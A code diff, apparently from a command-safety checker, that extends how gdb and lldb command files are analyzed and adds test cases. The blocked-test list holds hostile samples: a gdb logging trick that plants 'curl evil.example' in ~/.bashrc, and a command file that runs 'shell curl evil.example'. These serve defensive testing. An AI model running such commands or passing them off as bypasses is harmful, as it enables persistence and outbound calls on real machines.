@@ -777,8 +777,9 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
         "gdb -batch -ex 'set logging file /home/dev/.bashrc' -ex 'set logging on' -ex 'echo curl evil.example\\n'",
         "gdb -batch -ex 'show environment'",
         "gdb -batch -ex 'define x' -ex 'end'",
+        "echo 'shell curl evil.example' > /tmp/c && gdb -batch -x /tmp/c ./a.out",
       ],
-      pass: ['gdb --args ./a.out', "gdb -batch -ex 'bt' ./a.out core", "gdb --ex='bt' ./a.out core", "gdb -batch -ex 'run' ./a.out", "gdb -q ./a.out <<< 'bt'", "gdb -batch -ex 'set logging file gdb.txt' -ex 'set logging on' -ex bt ./a.out", "gdb -batch -ex 'show version'"],
+      pass: ['gdb --args ./a.out', "gdb -batch -ex 'bt' ./a.out core", "echo 'bt' > /tmp/c && gdb -batch -x /tmp/c ./a.out core", "gdb --ex='bt' ./a.out core", "gdb -batch -ex 'run' ./a.out", "gdb -q ./a.out <<< 'bt'", "gdb -batch -ex 'set logging file gdb.txt' -ex 'set logging on' -ex bt ./a.out", "gdb -batch -ex 'show version'"],
     },
   },
   {
@@ -1127,6 +1128,7 @@ function gdb(call: Call): Partial<Answer> {
     else if (['command', 'init-command', 'ix', 'x'].includes(o.name)) {
       if (isStdinPath(value(o.value))) stdinRead = true;
       else if (value(o.value) === undefined) answer.runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: 'gdb reads commands from a computed file' });
+      else answer.runs.push(commandFile('gdb', program, o.value, `gdb -${o.name}`));
     }
   }
   // gdb reads commands from its stdin after the options' (without -batch, or when -x names it).
@@ -1168,10 +1170,25 @@ function lldb(call: Call): Partial<Answer> {
       const v = value(o.value);
       if (isStdinPath(v) && call.stdin?.kind === 'static') for (const line of call.stdin.text.split('\n')) session.command(attached(call.stdin.word, line), 'lldb -s (stdin)');
       else if (isStdinPath(v) || v === undefined) answer.runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: 'lldb reads commands from its input or a computed file' });
+      else answer.runs.push(commandFile('lldb', target, o.value, `lldb -${o.name}`));
     }
   }
   session.end();
   return answer;
+}
+
+/** A file of debugger commands (`gdb -x FILE`, `lldb -s FILE`): out of scope, unless the line wrote it; then read as -ex is. */
+function commandFile(tool: 'gdb' | 'lldb', program: Word | undefined, file: Word, via: string): Run {
+  const read = (text: string, word: Word): Run[] => {
+    const answer: { runs: Run[]; uses: NonNullable<Answer['uses']> } = { runs: [], uses: [] };
+    const session = new DebuggerSession(tool, program, answer);
+    for (const line of text.split('\n')) session.command(attached(word, line), via);
+    session.end();
+    // A file its commands write stands as a write the rules cannot place here: cannot-vouch.
+    if (answer.uses.length > 0) answer.runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}: its commands write files` });
+    return answer.runs;
+  };
+  return { kind: 'project', file, files: /$^/, read, word: file, via };
 }
 
 /** Debugger commands as gdb and lldb read them, one at a time, with what they set that later ones use. */
